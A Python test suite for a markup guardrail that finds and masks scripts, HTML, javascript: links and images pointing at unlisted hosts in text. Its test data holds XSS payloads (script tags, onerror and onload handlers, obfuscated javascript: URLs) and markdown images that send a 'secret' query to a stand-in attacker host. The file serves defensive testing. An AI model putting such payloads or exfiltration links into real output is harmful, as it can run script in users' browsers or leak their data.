"""What would be carried out where a text is shown is found, and taken out; what is only said passes."""

import asyncio
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from trackbed.rails.library.code_spans import code_spans
from trackbed.rails.library.markup import Markup
from trackbed.rails.stage import mask
from trackbed.rails.types import Models, Turn, Verdict


def judge(text: str, **config: Any) -> Verdict:  # Any: whatever a policy says
    return asyncio.run(Markup(Markup.Config.model_validate(config), Models()).check(Turn("", text=text)))


def cleaned(text: str, **config: Any) -> str | None:  # Any: as above
    return mask(Turn("", text=text), judge(text, **config))


@pytest.mark.parametrize(
    ("text", "kinds", "left"),
    [
        ("a <b>bold</b> word", ("html",), "a bold word"),
        ("a & b <i>c</i> > d", ("html",), "a & b c > d"),
        ("> quoted <br> line", ("html",), "> quoted  line"),
        ("<script>alert(1)</script>fine", ("script",), "fine"),
        ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>fine", ("script",), "fine"),
        ("<img src=x onerror=alert(1)>fine", ("script",), "fine"),
        ("fine <img src=x onerror=alert(1)", ("script",), "fine "),
        ("<a href='javascript:alert(1)'>here</a>", ("script", "html"), "here"),
        ("<svg/onload=alert(1)>fine", ("script",), "fine"),
        ("<iframe src=https://evil.example></iframe>fine", ("script",), "fine"),
        ("<<b>script>alert(1)<<b>/script>fine", ("html",), "fine"),
        ("<!-- hidden -->fine", ("html",), "fine"),
        ("<y/onclick=alert(1)>fine", ("script",), "fine"),
        ("<x-y a=b>fine", ("script",), "fine"),
        ("[here](javascript:alert(1))", ("link",), "here"),
        ("[here](java&#115;cript:alert(1))", ("link",), "here"),
        ("[here](javascript\\:alert(1))", ("link",), "here"),
        ("[here](<data:text/html,x>)", ("link",), "here"),
        ("<javascript:alert(1)>fine", ("link",), "fine"),
        ("so ![chart](https://evil.example/?q=secret) it is", ("image",), "so chart it is"),
        ("![a [b]](//evil.example/?q=1 'title')", ("image",), "a [b]"),
        ("![a][1]\n\n[1]: https://evil.example/?q=1", ("image",), "a\n\n[1]: https://evil.example/?q=1"),
        ("<img src='https://evil.example/?q=1'>fine", ("image",), "fine"),
        ("`ok` <b>not</b> `<b>`", ("html",), "`ok` not `<b>`"),
    ],
)
def test_what_is_active_is_found_and_a_mask_takes_it_out(text: str, kinds: tuple[str, ...], left: str) -> None:
    verdict = judge(text)
    assert (verdict.action, verdict.categories) == ("block", kinds)
    assert cleaned(text) == left


@pytest.mark.parametrize(
    "text",
    [
        "",
        "a < b and b > c, 1<2, x<y",
        "I <3 it & so on; &lt;script&gt; is text",
        "write <your-name> or <EMAIL_ADDRESS> here",
        "a List<String> of <T>",
        "see <https://example.org/a> or <me@example.org>",
        "[here](https://example.org/?q=a) and [there](../b#c) and [mail](mailto:a@b.org)",
        "an example: `<script>alert(1)</script>`",
        "```html\n<img src=x onerror=alert(1)>\n```\ndone",
        "~~~\n<b>\n~~~",
        "``a ` <b>``",
        "an array a[0](1) and !important",
        "> a quotation\n\n- a list\n- **bold**",
        "javascript: the good parts",
    ],
)
def test_what_is_only_said_passes(text: str) -> None:
    assert judge(text).action == "allow"


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("a <b>bold</b> word", None),
        ("<table><tr><td colspan=2>x</td></tr></table>", None),
        ("<b onclick=x()>bold</b>", "<b>bold</b>"),
        ("<p style='background:url(//evil.example)'>x</p>", "<p>x</p>"),
        ("<b>x</b> <img src='https://evil.example/?q' alt='a'>", '<b>x</b> <img alt="a">'),
        ("<b>x</b><script>y</script> <your-name> & z", "<b>x</b> <your-name> & z"),
        ("<b>\n```\n<script>x</script>\n```\n</b>", "<b>\n```\n\n```\n</b>"),
    ],
)
def test_harmless_html_may_stay_and_what_it_does_may_not(text: str, left: str | None) -> None:
    assert (judge(text, html="allow").action == "allow") == (left is None)
    assert cleaned(text, html="allow") == left


def test_html_that_is_to_block_leaves_a_mask_nothing_to_do() -> None:
    assert cleaned("<b>x</b>", html="block") is None
    assert judge("<b>x</b>", html="block").action == "block"
    assert cleaned("![a](https://evil.example)", html="block") == "a"


@pytest.mark.parametrize(
    ("address", "action"),
    [
        ("https://cdn.example.org/a.png", "allow"),
        ("//example.org/a.png", "allow"),
        ("https://example.org@evil.example/", "block"),
        ("https://evil.example\\@example.org/", "block"),
        ("https://example.org.evil.example/", "block"),
        ("data:image/png;base64,AAAA", "block"),
        ("a.png", "block"),
    ],
)
def test_images_come_from_listed_hosts(address: str, action: str) -> None:
    assert judge(f"![a]({address})", hosts=["example.org"]).action == action
    assert judge(f'<img src="{address}">', html="allow", hosts=["example.org"]).action == action


def test_all_images_may_be_allowed() -> None:
    assert judge("![a](https://evil.example/a.png)", images="allow").action == "allow"
    assert judge("![a](javascript:x)", images="allow").action == "block"


@pytest.mark.parametrize(
    "config", [{"hosts": ["https://a.org"]}, {"hosts": ["a.org"], "images": "allow"}, {"html": "x"}]
)
def test_a_config_that_cannot_be_meant_is_refused(config: dict[str, object]) -> None:
    with pytest.raises(ValidationError):
        Markup.Config.model_validate(config)


@pytest.mark.parametrize(
    "text",
    [
        "<" * 50_000,
        "<a " * 30_000,
        "<b>" * 20_000,
        "<!--" * 20_000,
        "<a b='" + "c " * 40_000,
        "](" * 20_000,
        "![" * 30_000,
        "[" * 50_000 + "](x)",
        "`" * 50_000,
        "` `` " * 20_000,
        "\n```" * 20_000,
        "\ud800<b>x</b>",
    ],
)
def test_hostile_texts_are_judged(text: str) -> None:
    assert judge(text).action in ("allow", "block")


TAGS = ["<", ">", "<b>", "</b>", "<script>", "</script>", "<!--", "-->", "<img src=", "onerror=x", "on", "=", "&lt;"]
LINKS = ["![", "[a](", ")", "javascript:", "https://evil.example/", "/"]
PIECES = st.sampled_from([*TAGS, *LINKS, "`", "```\n", "\n", "x", " ", '"', "'"])


@given(st.lists(PIECES, max_size=14).map("".join), st.sampled_from(["allow", "strip"]))
def test_what_a_mask_leaves_passes(text: str, html: str) -> None:
    left = judge(text, html=html).text
    assert left is None or judge(left, html=html).action == "allow"


@given(st.lists(PIECES, max_size=14).map("".join))
def test_code_is_found_in_order_and_inside_the_text(text: str) -> None:
    reached = 0
    for start, end in code_spans(text):
        assert reached <= start < end <= len(text)
        reached = end
